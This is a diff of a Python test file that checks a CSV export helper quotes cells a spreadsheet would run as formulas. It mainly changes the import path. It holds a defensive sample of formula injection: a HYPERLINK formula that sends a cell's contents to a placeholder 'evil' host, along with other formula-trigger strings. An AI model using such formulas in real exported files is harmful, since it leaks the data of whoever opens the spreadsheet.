@@ -45,17 +45,17 @@ _EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'
 
 @pytest.mark.parametrize("text", [_EVIL, "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"])
 def test_a_cell_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
-    from tracker import jsonio
+    from tracker.jsonio.csvout import csv_cell
 
-    assert jsonio.csv_cell(text) == "'" + text
+    assert csv_cell(text) == "'" + text
 
 
 @pytest.mark.parametrize("value", [-3, Decimal("-1.5"), 0.25, "-3.5", "+2", "12", "SYN-001", "a=b", "", True])
 def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
-    from tracker import jsonio
+    from tracker.jsonio.csvout import csv_cell
 
-    assert jsonio.csv_cell(value) == value
-    assert jsonio.csv_cell(None) == ""
+    assert csv_cell(value) == value
+    assert csv_cell(None) == ""
 
 
 def _cells(out: str) -> list[str]:
